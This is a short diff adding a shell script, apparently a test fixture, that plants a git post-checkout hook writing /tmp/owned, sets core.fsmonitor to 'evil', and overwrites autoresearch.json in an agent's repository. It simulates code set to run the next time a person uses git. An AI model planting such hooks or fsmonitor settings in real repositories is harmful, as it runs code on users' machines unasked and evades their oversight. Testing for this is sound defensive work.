@@ -1,0 +1,6 @@
+# Code, hooks and settings that run when a person next uses git.
+r=$AGENT_AT/repository
+printf '#!/bin/sh\ntouch /tmp/owned\n' > "$r/.git/hooks/post-checkout"
+echo '[core] fsmonitor = evil' >> "$r/.git/config"
+git -C "$r" config core.fsmonitor evil
+echo evil > "$r/autoresearch.json"
